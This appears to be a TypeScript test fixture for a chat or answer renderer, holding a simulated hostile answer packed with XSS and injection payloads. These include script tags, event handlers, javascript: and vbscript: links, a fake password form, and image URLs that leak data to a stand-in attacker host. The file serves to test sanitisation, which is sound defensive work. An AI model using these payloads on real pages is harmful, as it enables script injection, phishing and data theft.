/** The answer to `/simulate hostile`: tries to inject scripts, frames, forms and spoofed links by Markdown and HTML. */
export const HOSTILE_ANSWER = `Here is a perfectly harmless answer.

<script>window.__sidenote_pwned = 1; document.title = "pwned";</script>
<img src="https://attacker.invalid/pixel.png?leak=1" onerror="window.__sidenote_pwned = 2">
<svg onload="window.__sidenote_pwned = 3"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<iframe src="https://attacker.invalid/frame"></iframe><style>* { display: none !important }</style>
<form action="https://attacker.invalid/login"><input name="password"><button>Sign in again</button></form>

![a remote picture](https://attacker.invalid/image.png?question=secret)
[click me](javascript:window.__sidenote_pwned=4) and [me](JaVaScRiPt&colon;alert(1)) and [data](data:text/html,<script>alert(1)</script>)
[a spoofed link https://moodle.example](https://attacker.invalid/ "x\\" onmouseover=\\"window.__sidenote_pwned=5")
<javascript:alert(1)> and [ref][1] and \`<b onclick=alert(1)>\`

[1]: vbscript:msgbox(1)

| <script>window.__sidenote_pwned = 6</script> | b |
|---|---|
| <img src=x onerror=window.__sidenote_pwned=7> | [x](javascript:alert(2)) |

\`\`\`html"><img src=x onerror=window.__sidenote_pwned=8>
</code></pre><script>window.__sidenote_pwned = 9</script>
\`\`\`

$\\href{javascript:window.__sidenote_pwned=10}{x}$ $\\htmlData{a=b}{x}$

‮gnirts desrever‬ zero​width

That was all.
`;
